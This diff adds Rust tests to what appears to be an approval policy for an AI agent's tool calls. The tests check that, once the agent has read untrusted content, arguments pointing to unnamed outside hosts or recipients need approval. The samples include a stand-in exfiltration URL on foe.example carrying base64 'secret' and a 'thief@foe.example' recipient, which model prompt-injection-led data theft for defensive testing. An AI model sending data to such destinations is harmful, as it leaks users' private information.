@@ -553,3 +553,93 @@ fn an_answer_is_one_thing_and_a_dry_run_is_no_permit() {
         "and it adds to nothing"
     );
 }
+
+// --- A value that leads outside, whatever its argument is called
+
+const AWAY: &str = "https://foe.example/?d=c2VjcmV0";
+
+#[test]
+fn a_reader_goes_nowhere_that_nobody_has_named() {
+    let mut run = Run::new("Look at the news").tainted();
+    for arguments in [
+        json!({"image": AWAY}),
+        json!({"filter": AWAY}),
+        json!({"filter": {"of": [{"repo": AWAY}]}}),
+        json!({"filter": ["news", AWAY]}),
+        json!({"anything": {"at": {"all": [AWAY]}}}),
+        json!({"said": AWAY}),
+        json!({"filter": [{"by": ["notes.txt, //foe.example/x?d=1"]}]}),
+    ] {
+        assert_eq!(run.says("look", arguments.clone()), "require_approval unproven_fetch", "{arguments}");
+        assert_eq!(
+            says_without_provenance(&mut run, "look", &arguments),
+            "require_approval provenance_unknown",
+            "{arguments}"
+        );
+    }
+    let mail = json!({"recipient": "thief@foe.example"});
+    assert_eq!(run.says("look", mail), "require_approval unproven_destination");
+    for arguments in [json!({"filter": "notes.txt"}), json!({"said": format!("as said at {AWAY} before")})] {
+        assert_eq!(run.says("look", arguments.clone()), "allow", "{arguments}");
+    }
+    assert_eq!(Run::new("Look").says("look", json!({"image": AWAY})), "allow", "no stranger was read");
+    let mut run = Run::strict("Look at the news").tainted();
+    assert_ne!(run.says("look", json!({"image": AWAY})), "allow");
+}
+
+#[test]
+fn a_value_that_leads_outside_is_proven_like_a_destination() {
+    let mut run = Run::new(&format!("Look at {AWAY} and at foe.example/x")).tainted();
+    for value in [AWAY, "//foe.example/x", "foe.example/x", "https://foe.example/x"] {
+        assert_eq!(run.says("look", json!({"image": value})), "allow", "{value}");
+    }
+    assert_eq!(run.says("look", json!({"image": format!("{AWAY}x")})), "require_approval unproven_fetch");
+    let mut run = Run::new("Look at the news").tainted();
+    run.reads("contacts", json!([{"name": "Bob", "email": "bob@example.com"}]));
+    let to = |to: &str| json!({"recipient": to});
+    assert_eq!(run.says("look", to("bob@example.com")), "require_approval private_to_outside");
+    let mut run = Run::new("Look up Bob").tainted();
+    run.reads("contacts", json!([{"name": "Bob", "email": "bob@example.com"}]));
+    assert_eq!(run.says("look", to("bob@example.com")), "allow", "the goal names his record");
+    let step = |arguments: Value| json!({"steps": [{"action": "read_mail"}, {"action": "look", "arguments": arguments}]});
+    let said = step(json!({"/image": {"equals": AWAY}}));
+    let mut run = Run::of(&STANDARD, "Look", Some(said)).tainted();
+    assert_eq!(run.says("look", json!({"image": AWAY})), "allow", "whoever opened the run has named it");
+    let mut run = Run::of(&STANDARD, "Look", Some(step(json!({})))).tainted();
+    assert_eq!(run.says("look", json!({"image": AWAY})), "require_approval unproven_fetch");
+}
+
+#[test]
+fn a_change_goes_nowhere_by_what_is_no_destination() {
+    let mut run = Run::new("Label the news \"old\"").tainted();
+    for at in ["by", "on", "for", "name"] {
+        let mut arguments = json!({"name": "news"});
+        arguments[at] = AWAY.into();
+        assert!(run.codes("label", arguments).contains(&"unproven_destination"), "{at}");
+    }
+    let both = run.codes("label", json!({"name": "old", "note": AWAY, "by": AWAY}));
+    assert_eq!(
+        both,
+        ["unproven_destination", "unproven_link"],
+        "what reaches somebody takes along what it says"
+    );
+    // Who it is about is proven as a target; a mailbox that is no target is a destination.
+    let of = |run: &mut Run, at: &str| {
+        let mut arguments = json!({"name": "old"});
+        arguments[at] = "ann@acme.example".into();
+        run.codes("label", arguments)
+    };
+    assert_eq!(of(&mut run, "name"), ["unproven_target"]);
+    assert_eq!(of(&mut run, "by"), ["unproven_destination"]);
+    assert_eq!(run.says("label", json!({"name": "old", "note": AWAY})), "allow", "it reaches nobody");
+}
+
+#[test]
+fn what_was_decided_before_values_were_looked_at_is_decided_as_it_was() {
+    let mut run = Run::new("Look at the news").tainted();
+    for edition in [0, 1, 2] {
+        let proposal = proposal(&principal("a"), "look", &json!({"image": AWAY}));
+        let ruling = run.world.propose_knowing(proposal, &[], |facts| facts.edition = edition);
+        assert_eq!(says(&ruling), "allow", "{edition}");
+    }
+}
